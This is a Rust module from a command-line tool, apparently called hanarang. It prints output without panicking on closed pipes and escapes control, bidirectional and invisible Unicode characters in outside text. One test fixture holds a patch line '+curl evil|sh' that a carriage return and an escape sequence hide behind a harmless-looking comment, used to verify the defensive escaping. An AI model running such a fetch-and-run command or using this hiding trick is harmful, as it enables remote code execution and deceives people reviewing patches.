//! What the commands print. A reader that went away (`hanarang sprint status | head -1`)
//! or a closed stderr is the reader's choice, not a failure: output into it is dropped, and
//! the command ends as it would have, never with a panic (`println!` panics there).

use std::fmt;
use std::io::Write;
use std::process::ExitCode;

/// A closed pipe is the reader's choice, and passes in silence; any other failure to
/// write (a full disk under `> file`) is reported, once, and makes the exit code 1.
fn written(result: std::io::Result<()>) {
    if let Err(e) = result
        && e.kind() != std::io::ErrorKind::BrokenPipe
        && !FAILED.swap(true, std::sync::atomic::Ordering::Relaxed)
    {
        let _ = writeln!(std::io::stderr(), "hanarang: cannot write output: {e}");
    }
}

static FAILED: std::sync::atomic::AtomicBool = std::sync::atomic::AtomicBool::new(false);

/// Whether some output could not be written (other than into a closed pipe).
pub fn failed() -> bool {
    FAILED.load(std::sync::atomic::Ordering::Relaxed)
}

/// One line on stdout (`outln!`).
pub fn out_line(args: fmt::Arguments<'_>) {
    let mut out = std::io::stdout().lock();
    written(out.write_fmt(args).and_then(|()| out.write_all(b"\n")));
}

/// Text on stdout without a newline, flushed: a prompt (`out!`).
pub fn out_text(args: fmt::Arguments<'_>) {
    let mut out = std::io::stdout().lock();
    written(out.write_fmt(args).and_then(|()| out.flush()));
}

/// One line on stderr (`errln!`); a stderr that cannot be written to has nowhere to say so.
pub fn err_line(args: fmt::Arguments<'_>) {
    let mut err = std::io::stderr().lock();
    let _ = err.write_fmt(args).and_then(|()| err.write_all(b"\n"));
}

/// JSON on stdout, pretty-printed; `Err` only when it cannot be encoded.
pub fn out_json(value: &impl serde::Serialize) -> Result<(), serde_json::Error> {
    let mut out = std::io::BufWriter::new(std::io::stdout().lock());
    match serde_json::to_writer_pretty(&mut out, value) {
        Err(e) if e.is_io() => {
            written(Err(e.into()));
            return Ok(());
        }
        other => other?,
    }
    written(out.write_all(b"\n").and_then(|()| out.flush()));
    Ok(())
}

/// `println!` that never panics: see the module's doc.
#[macro_export]
macro_rules! outln {
    () => { $crate::output::out_line(format_args!("")) };
    ($($arg:tt)*) => { $crate::output::out_line(format_args!($($arg)*)) };
}

/// `print!` plus a flush, that never panics.
#[macro_export]
macro_rules! out {
    ($($arg:tt)*) => { $crate::output::out_text(format_args!($($arg)*)) };
}

/// `eprintln!` that never panics.
#[macro_export]
macro_rules! errln {
    ($($arg:tt)*) => { $crate::output::err_line(format_args!($($arg)*)) };
}

/// Text from outside (a goal, a sister's reason, its stderr, a commit's subject) as it may
/// reach a terminal: control characters (ESC, BEL, a carriage return, the C1 ones) are
/// shown escaped (`\u{1b}`), so the text can neither move the cursor, erase what came
/// before it on its line nor retitle the window; so are the characters that reorder what
/// follows or draw nothing (`invisible`), so a line cannot show its end first or hide
/// what it holds. Tabs stay.
pub fn escape_controls(text: &str) -> std::borrow::Cow<'_, str> {
    // ASCII, the usual case, is judged byte by byte: its control characters are the
    // bytes below a space, and DEL.
    let clean = if text.is_ascii() {
        !text.bytes().any(|b| (b < b' ' && b != b'\t') || b == 0x7f)
    } else {
        !text.chars().any(escaped)
    };
    if clean {
        return std::borrow::Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        if escaped(c) {
            out.extend(c.escape_unicode());
        } else {
            out.push(c);
        }
    }
    std::borrow::Cow::Owned(out)
}

/// Text of many lines from outside (a patch) as it may reach a terminal: each line as
/// `escape_controls` shows it, the line breaks kept.
pub fn escape_controls_by_line(text: &str) -> std::borrow::Cow<'_, str> {
    let lines: Vec<std::borrow::Cow<'_, str>> = text.split('\n').map(escape_controls).collect();
    if lines
        .iter()
        .all(|line| matches!(line, std::borrow::Cow::Borrowed(_)))
    {
        return std::borrow::Cow::Borrowed(text);
    }
    std::borrow::Cow::Owned(lines.join("\n"))
}

/// Whether `c` is shown escaped: a control character other than a tab, or an invisible one.
fn escaped(c: char) -> bool {
    (c.is_control() && c != '\t') || invisible(c)
}

/// Whether `c` reorders the text after it or draws nothing, so a reader cannot see it is
/// there: Unicode's format characters (category Cf: the bidi controls U+202A–U+202E and
/// U+2066–U+2069, the marks U+200E, U+200F and U+061C, the zero-width space, joiners and
/// word joiner, the BOM, the soft hyphen, the tag characters), the line and paragraph
/// separators U+2028 and U+2029, the rest of the tag block, and the letters and marks that
/// are drawn as nothing (the Hangul fillers, the combining grapheme joiner, the variation
/// selectors but U+FE0E and U+FE0F, which pick an emoji's look). Discord's inert text
/// (`discord::inert`) shows the same characters escaped.
pub fn invisible(c: char) -> bool {
    use unicode_properties::{GeneralCategory, UnicodeGeneralCategory};
    if c.is_ascii() {
        return false;
    }
    matches!(
        c,
        '\u{034f}'
            | '\u{115f}'
            | '\u{1160}'
            | '\u{17b4}'
            | '\u{17b5}'
            | '\u{180b}'..='\u{180f}'
            | '\u{3164}'
            | '\u{fe00}'..='\u{fe0d}'
            | '\u{ffa0}'
            | '\u{e0000}'..='\u{e007f}'
            | '\u{e0100}'..='\u{e01ef}'
    ) || matches!(
        c.general_category(),
        GeneralCategory::Format
            | GeneralCategory::LineSeparator
            | GeneralCategory::ParagraphSeparator
    )
}

/// The process exit codes (docs/cli.md, Exit codes).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Exit {
    Success = 0,
    Failure = 1,
    Usage = 2,
    Escalated = 3,
    Refused = 4,
}

impl From<Exit> for ExitCode {
    fn from(e: Exit) -> Self {
        ExitCode::from(e as u8)
    }
}

/// JSON on stdout (`--json`, `schema`, `validate`).
pub fn print_json(value: &impl serde::Serialize) -> Exit {
    match crate::output::out_json(value) {
        Ok(()) => Exit::Success,
        Err(e) => {
            errln!("hanarang: cannot write output: {e}");
            Exit::Failure
        }
    }
}

#[cfg(test)]
mod tests {
    use std::borrow::Cow;

    use super::escape_controls;
    use crate::notify::messages::one_line_cow;

    /// The byte-by-byte judgement of ASCII text agrees with the character one for every
    /// ASCII character, in the middle of a line and at its ends.
    #[test]
    fn ascii_is_judged_as_its_characters_are() {
        for b in 0u8..0x80 {
            let c = char::from(b);
            for text in [format!("a{c}b"), format!("{c}ab"), format!("ab{c}")] {
                let control = c.is_control() && c != '\t';
                assert_eq!(
                    matches!(escape_controls(&text), Cow::Borrowed(_)),
                    !control,
                    "{text:?}"
                );
                let flat = !c.is_whitespace()
                    || (c == ' ' && text.starts_with('a') && text.ends_with('b'));
                assert_eq!(
                    matches!(one_line_cow(&text), Cow::Borrowed(_)),
                    flat,
                    "{text:?}"
                );
            }
        }
    }

    /// A patch line that would show only its harmless comment on a terminal (a carriage
    /// return, then ESC erasing the line) shows all it holds, its bidi overrides too;
    /// the line breaks stay.
    #[test]
    fn a_patch_line_shows_its_carriage_return_escape_and_bidi_controls() {
        let patch = "+curl evil|sh\r\u{1b}[2K+# harmless comment\n+let ok = \"\u{202e}\u{2066}x\u{2069}\u{200f}\";\tnext\n";
        assert_eq!(
            super::escape_controls_by_line(patch),
            "+curl evil|sh\\u{d}\\u{1b}[2K+# harmless comment\n+let ok = \"\\u{202e}\\u{2066}x\\u{2069}\\u{200f}\";\tnext\n"
        );
        assert_eq!(
            escape_controls("subject \u{85}\u{9b}31m \u{202a}\u{200e}"),
            "subject \\u{85}\\u{9b}31m \\u{202a}\\u{200e}"
        );
        let clean = "+fn main() {}\n\t+ünïcode → fine\n";
        assert!(matches!(
            super::escape_controls_by_line(clean),
            Cow::Borrowed(_)
        ));
    }

    /// What draws nothing is shown too: zero-width characters, the Arabic letter mark,
    /// the line and paragraph separators, a BOM, tag characters (text hidden in an
    /// emoji's tail) and the Hangul filler; the letters, emoji and their presentation
    /// selector stay as they are.
    #[test]
    fn zero_width_separators_and_tag_characters_are_shown_escaped() {
        assert_eq!(
            escape_controls("a\u{200b}b\u{200c}c\u{200d}d\u{2060}e\u{feff}f\u{61c}g"),
            "a\\u{200b}b\\u{200c}c\\u{200d}d\\u{2060}e\\u{feff}f\\u{61c}g"
        );
        assert_eq!(
            escape_controls("one\u{2028}two\u{2029}three"),
            "one\\u{2028}two\\u{2029}three"
        );
        assert_eq!(
            escape_controls("ok\u{e0001}\u{e0041}\u{e007f} \u{3164}\u{ad}"),
            "ok\\u{e0001}\\u{e0041}\\u{e007f} \\u{3164}\\u{ad}"
        );
        let visible = "✏️ Edit 로그인.rs ▶️ naïve ❤\u{fe0e} 👍🏽 日本";
        assert!(matches!(escape_controls(visible), Cow::Borrowed(_)));
    }
}
